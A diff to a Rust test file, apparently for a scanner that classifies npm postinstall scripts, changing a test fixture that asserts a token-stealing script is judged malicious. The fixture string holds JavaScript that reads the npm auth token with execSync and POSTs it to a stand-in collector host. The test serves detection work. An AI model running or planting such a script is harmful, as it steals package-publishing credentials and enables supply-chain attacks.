@@ -103,7 +103,7 @@ fn planting_a_workflow_that_dumps_every_secret_is_malicious() {
 
 #[test]
 fn asking_npm_for_its_token_at_install_and_sending_it_is_theft() {
-    let thief = "const { execSync } = require('child_process');\nconst token = execSync('npm config get //registry.npmjs.org/:_authToken').toString();\nfetch('https://relay.collector.example/t', { method: 'POST', body: token });\n";
+    let thief = "const { execSync } = require('child_process');\nconst token = execSync('npm config get //registry.example.test/:_authToken').toString();\nfetch('https://relay.collector.example/t', { method: 'POST', body: token });\n";
     let analysis = npm_postinstall(thief);
     assert!(has(&analysis, "credentials/cli-stored-token"));
     assert_verdict(&analysis, Verdict::Malicious);
